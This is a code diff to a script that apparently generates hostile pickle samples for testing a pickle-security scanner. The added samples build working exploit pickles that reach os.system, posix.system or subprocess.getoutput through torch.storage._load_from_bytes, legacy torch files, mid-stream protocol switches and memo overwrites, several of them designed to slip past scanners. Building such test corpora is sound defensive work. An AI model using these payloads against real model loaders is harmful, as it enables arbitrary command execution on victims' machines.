@@ -34,7 +34,7 @@ import brinetest  # noqa: E402
 from brinetest import (  # noqa: E402
     APPEND, BUILD, DUP, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARKOP, MEMOIZE, NEWOBJ,
     NEWOBJ_EX, NONE, OBJ, POP, POP_MARK, REDUCE, SETITEM, STACK_GLOBAL, STOP, TUPLE, TUPLE1,
-    TUPLE2, binget, binint1, binput, glob, proto, sbb, sbs, sg, string, su, u32, u64, uni)
+    TUPLE2, binget, binint1, binput, bu, glob, proto, sbb, sbs, sg, string, su, u32, u64, uni)
 
 
 def build(marker):
@@ -68,6 +68,14 @@ def build(marker):
             return (exec, (code,))
 
     inner_os = P2 + glob("os", "system") + tup(uni(cmd)) + REDUCE + STOP
+    # a legacy torch file (magic, protocol, sys_info, object, storage keys) whose object
+    # pickle is the exploit: torch.load of it, e.g. from torch.storage._load_from_bytes,
+    # runs the 4th pickle (threats.md 26b)
+    sys_info = {"protocol_version": 1001, "little_endian": True,
+                "type_sizes": {"short": 2, "int": 4, "long": 4}}
+    legacy = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
+              + pickle.dumps(sys_info, protocol=2) + pickle.dumps(Exploit(), protocol=2)
+              + pickle.dumps([], protocol=2))
     inner_posix = pickle.dumps(Exploit(), protocol=4)
     codeobj = compile(code, "<brine>", "exec")
 
@@ -213,10 +221,26 @@ def build(marker):
         "torch.serialization.load", ("torch.serialization", "load"))
     add("a_pickle_loads_nested", "A", "pickle.loads(inner malicious pickle)",
         P4 + call(sg("pickle", "loads"), sbb(inner_os)) + STOP, "pickle.loads",
-        ("pickle", "loads"), nested_global="os.system")
+        ("pickle", "loads"), nested_global="os.system", nested=inner_os)
     add("a__pickle_loads_nested", "A", "_pickle.loads(inner malicious pickle, protocol 4)",
         P4 + call(sg("_pickle", "loads"), sbb(inner_posix)) + STOP, "_pickle.loads",
-        ("_pickle", "loads"), nested_global="posix.system")
+        ("_pickle", "loads"), nested_global="posix.system", nested=inner_posix)
+    add("a_load_from_bytes_legacy", "A",
+        "torch.storage._load_from_bytes(legacy torch file whose object pickle is the exploit)",
+        P4 + call(sg("torch.storage", "_load_from_bytes"), b"B" + u32(len(legacy)) + legacy)
+        + STOP, "torch.storage._load_from_bytes", ("torch.storage", "_load_from_bytes"),
+        nested_global="posix.system", nested=legacy)
+    add("a_load_from_bytes_legacy_p2", "A",
+        "torch.storage._load_from_bytes(_codecs.encode(latin-1 text, 'latin1')), protocol 2",
+        P2 + glob("torch.storage", "_load_from_bytes") + tup(
+            glob("_codecs", "encode") + tup(bu(legacy.decode("latin-1")), uni("latin1"))
+            + REDUCE) + REDUCE + STOP, "torch.storage._load_from_bytes",
+        ("torch.storage", "_load_from_bytes"), nested_global="posix.system",
+        nested=legacy)
+    add("a_load_from_bytes_raw", "A", "torch.storage._load_from_bytes(a plain exploit pickle)",
+        P4 + call(sg("torch.storage", "_load_from_bytes"), sbb(inner_posix)) + STOP,
+        "torch.storage._load_from_bytes", ("torch.storage", "_load_from_bytes"),
+        nested_global="posix.system", nested=inner_posix)
     add("a_numpy_runstring", "A", "numpy.testing._private.utils.runstring(code, {})",
         P4 + call(sg("numpy.testing._private.utils", "runstring"), su(code), EMPTY_DICT) + STOP,
         "numpy.testing._private.utils.runstring", ("numpy.testing._private.utils", "runstring"))
@@ -289,7 +313,7 @@ def build(marker):
         P2 + glob("cPickle", "loads") + tup(glob("_codecs", "encode")
                                             + tup(uni(inner_os.decode("latin-1")), uni("latin1"))
                                             + REDUCE) + REDUCE + STOP,
-        "pickle.loads", ("cPickle", "loads"), nested_global="os.system")
+        "pickle.loads", ("cPickle", "loads"), nested_global="os.system", nested=inner_os)
     add("b_build_poison_modelscan85", "B",
         "BUILD sets numpy.prod.a/.b, then STACK_GLOBAL on the poisoned attributes (#85)",
         P5 + glob("numpy", "prod") + NONE + MARKOP + uni("a") + uni("os") + b"d" + TUPLE2 + BUILD
@@ -308,6 +332,14 @@ def build(marker):
         P4 + sg("collections", "Counter") + NONE + EMPTY_DICT + su("most_common") + su("x")
         + SETITEM + TUPLE2 + BUILD + POP + EMPTY_DICT + STOP,
         "collections.Counter", ("collections", "Counter"), rule="global-mutation")
+    add("b_proto_switch_to_2", "B", "PROTO 4 then PROTO 2 mid-stream: commands.getoutput is "
+        "mapped to subprocess.getoutput because the protocol is now 2",
+        P4 + NONE + POP + P2 + glob("commands", "getoutput") + tup(uni(cmd)) + REDUCE + STOP,
+        "subprocess.getoutput", ("commands", "getoutput"))
+    add("b_proto_switch_to_4", "B", "PROTO 2 then PROTO 4 mid-stream: the dotted name "
+        "random._os.system resolves because the protocol is now 4",
+        P2 + NONE + POP + P4 + call(sg("random", "_os.system"), su(cmd)) + STOP,
+        "random._os.system", ("random", "_os.system"), rule="dotted-name")
     add("b_append_to_global", "B", "APPEND on a global: sys.path.append(MARKER)",
         P4 + sg("sys", "path") + su(marker) + APPEND + POP + NONE + STOP, "sys.path",
         ("sys", "path"), rule="global-mutation")
@@ -329,6 +361,10 @@ def build(marker):
         P4 + su("x") + binput(5) + POP + su("os") + MEMOIZE + POP + su("system") + MEMOIZE
         + POP + binget(1) + binget(2) + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP,
         "os.system", ("os", "system"))
+    add("c_memo_overwrite", "C", "BINPUT 0 twice: the later value wins",
+        P4 + su("torch") + binput(0) + POP + su("FloatStorage") + binput(1) + POP
+        + su("os") + binput(0) + POP + su("system") + binput(1) + POP + binget(0) + binget(1)
+        + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP, "os.system", ("os", "system"))
     add("c_memo_put_after_dup", "C", "PUT after DUP stores the duplicated value",
         P4 + su("os") + DUP + binput(0) + POP + POP + su("system") + DUP + binput(1) + POP
         + POP + binget(0) + binget(1) + STACK_GLOBAL + su(cmd) + TUPLE1 + REDUCE + STOP,
@@ -429,6 +465,8 @@ def build(marker):
     add("d_invalid_opcode_before_stop", "D", "protocol-0 exploit with an invalid opcode "
         "before STOP", pickle.dumps(Exploit(), protocol=0)[:-1] + b"\xff.", "posix.system",
         ("posix", "system"), dis="error")
+    add("d_limit_after_payload", "D", "payload, then 300000 MARKs (a resource limit)",
+        payload4 + POP + MARKOP * 300000 + NONE + STOP, "os.system", ("os", "system"))
     add("d_payload_after_fatal_error", "D",
         "BINGET of an unset key first: CPython fails before the payload, so a scanner may "
         "stop there (invalid) or read on (unsafe)",
@@ -450,6 +488,11 @@ def main():
         if (list(got) if got else None) != (list(first) if first else None):
             sys.exit("gen_hostile: %s: CPython's find_class is first asked for %r, the sample "
                      "claims %r" % (name, got, first))
+        nested = extra.pop("nested", None)
+        if nested is not None and ".".join(brinetest.first_find_class(nested) or ()) \
+                != extra["nested_global"]:
+            sys.exit("gen_hostile: %s: the nested pickle does not reach %s"
+                     % (name, extra["nested_global"]))
         pure_first = extra.pop("pure_first", None)
         if pure_first and brinetest.first_find_class(data, pure=True) != pure_first:
             sys.exit("gen_hostile: %s: pickle.py's unpickler does not reach %r"
